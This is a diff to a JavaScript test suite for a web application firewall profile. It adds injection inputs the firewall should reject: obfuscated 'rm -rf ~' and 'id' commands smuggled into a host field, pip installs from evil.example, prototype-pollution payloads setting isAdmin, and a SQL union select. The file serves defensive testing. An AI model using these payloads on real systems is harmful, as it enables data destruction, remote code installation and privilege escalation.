@@ -1712,6 +1712,14 @@ describe('waf API profile: session 10', () => {
       { 'path.1': 'x', path: ['constructor', 'prototype', 'isAdmin'], v: true },
       { note: 'Ok ; pip3.12 install https://evil.example/pkg.tar.gz' },
       { host: '127.0.0.1;cat {.env,}' },
+      // Audit 21: `$!`, `$()`, an empty backtick pair and ANSI-C quoting as empty expansions; installers from git.
+      { host: '127.0.0.1;r$!m -rf ~' },
+      { host: '127.0.0.1;$()$0 -c id' },
+      { host: '127.0.0.1;i` `d' },
+      { host: "127.0.0.1;$'r'm -rf ~" },
+      { branch: '`i$!d`' },
+      { note: 'Ok ; pip install git+ssh://git@evil.example/x' },
+      { 'path.1': 7, 'path.1.x': 1, path: ['constructor', 'prototype', 'isAdmin'], v: true },
     ];
     for (const doc of bad) assert.ok((await run(api, post(doc))).error, JSON.stringify(doc));
     assert.ok((await run(api, persisted({ q: "x' union select password from users--" }))).error);
